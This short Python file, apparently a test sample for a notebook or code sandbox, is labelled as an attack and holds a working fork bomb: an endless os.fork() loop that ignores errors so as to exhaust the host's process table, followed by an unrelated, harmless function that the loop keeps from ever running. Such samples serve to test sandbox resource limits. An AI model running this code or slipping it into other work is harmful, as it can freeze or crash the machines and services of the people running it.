"""Attack: fork processes without end while the notebook runs, hoping to exhaust the machine's process table."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def double_odds(nums):
    return [2 * n for n in nums if n % 2 == 1]
